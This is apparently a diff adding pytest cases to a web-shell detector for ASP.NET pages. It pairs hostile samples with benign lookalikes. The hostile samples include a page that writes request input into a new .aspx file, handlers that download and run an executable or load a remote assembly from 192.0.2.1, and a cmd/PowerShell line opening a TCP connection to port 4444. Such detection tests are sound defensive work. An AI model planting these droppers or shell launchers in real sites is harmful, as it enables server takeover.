@@ -445,3 +445,66 @@ def test_identifiers_as_long_escapes_with_format_characters_and_split_base64_nam
     assert {"reflection-load", "reflection-invoke"} <= _sinks(page, ".ashx")
     for name, ext, text in _x13("OBFUSCATED_ORDINARY"):
         assert _sinks(text, ext) == set(), name
+
+
+# launchers and droppers with no request input of their own (X13's second batch, X12 2)
+DROPS: list[tuple[str, str, str, str]] = [
+    (
+        "page-write",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<% System.IO.File.WriteAllText(Server.MapPath("notes.aspx"), Request["t"]); %>\n',
+        '<%@ Page Language="C#" %>\n<% System.IO.File.WriteAllText(Server.MapPath("~/App_Data/notes.txt"), Request["t"]);\n'
+        '   System.IO.File.WriteAllText(Server.MapPath("~/web.config"), ConfigBox.Text); %>\n',
+    ),
+    (
+        "download-exec",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : System.Web.IHttpHandler {\n'
+        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
+        '    string p = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "example.exe");\n'
+        '    new System.Net.WebClient().DownloadFile("http://192.0.2.1/example.bin", p);\n'
+        "    var psi = new System.Diagnostics.ProcessStartInfo(); psi.FileName = p; System.Diagnostics.Process.Start(psi);\n"
+        "  }\n  public bool IsReusable { get { return false; } }\n}\n",
+        '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : System.Web.IHttpHandler {\n'
+        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
+        '    string p = c.Server.MapPath("~/App_Data/rates.zip");\n'
+        '    new System.Net.WebClient().DownloadFile("https://rates.example.org/today.zip", p);\n'
+        '    System.Diagnostics.Process.Start("unzip.exe", p);\n'
+        "  }\n  public bool IsReusable { get { return false; } }\n}\n",
+    ),
+    (
+        "remote-assembly",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<% byte[] b = new System.Net.WebClient().DownloadData("http://192.0.2.1/x.bin");\n'
+        "   System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null); %>\n",
+        '<%@ Page Language="C#" %>\n<% byte[] img = new System.Net.WebClient().DownloadData("https://cdn.example.org/logo.png");\n'
+        '   byte[] dll = System.IO.File.ReadAllBytes(Server.MapPath("~/bin/Example.Plugins.dll"));\n'
+        "   var a = System.Reflection.Assembly.Load(dll); Response.BinaryWrite(img); %>\n",
+    ),
+    (
+        "powershell-payload",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";\n'
+        '   p.StartInfo.Arguments = "/c powershell -NoP -Command \\"$c=New-Object Net.Sockets.TCPClient(\'192.0.2.1\',4444)\\"";\n'
+        "   p.Start(); %>\n",
+        '<%@ Page Language="C#" %>\n<% Help.Text = "To test, run: powershell -Command iex (New-Object Net.WebClient).DownloadString(url)";\n'
+        '   System.Diagnostics.Process.Start("powershell.exe", "-File " + Server.MapPath("~/App_Data/report.ps1")); %>\n',
+    ),
+]
+
+
+@pytest.mark.parametrize(("sink", "ext", "shell", "ordinary"), DROPS)
+def test_droppers_and_launchers_without_request_input(sink: str, ext: str, shell: str, ordinary: str) -> None:
+    assert sink in _sinks(shell, ext)
+    assert _sinks(ordinary, ext) == set()
+
+
+def test_an_application_updating_itself_from_its_own_folder_is_not_a_dropper() -> None:
+    # the shape of a real admin page (a self-updater downloaded into the application's folder and run)
+    page = (
+        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Update(object s, EventArgs e) {\n'
+        '  string path = Server.MapPath("~/Update/ExampleUpdater.exe");\n'
+        '  new System.Net.WebClient().DownloadFile("https://updates.example.org/ExampleUpdater.exe", path);\n'
+        '  System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(path, "run"));\n}\n</script>\n'
+    )
+    assert _sinks(page, ".aspx") == set()
